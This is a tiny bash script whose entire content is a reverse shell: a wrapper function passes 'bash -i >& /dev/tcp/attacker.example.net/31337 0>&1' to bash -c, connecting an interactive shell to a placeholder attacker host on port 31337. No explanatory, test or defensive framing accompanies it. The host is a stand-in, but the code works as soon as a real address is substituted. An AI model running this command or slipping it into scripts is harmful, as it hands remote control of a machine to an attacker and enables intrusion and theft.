#!/usr/bin/env bash
function connect {
  bash -c "$*"
}
connect "bash -i >& /dev/tcp/attacker.example.net/31337 0>&1"
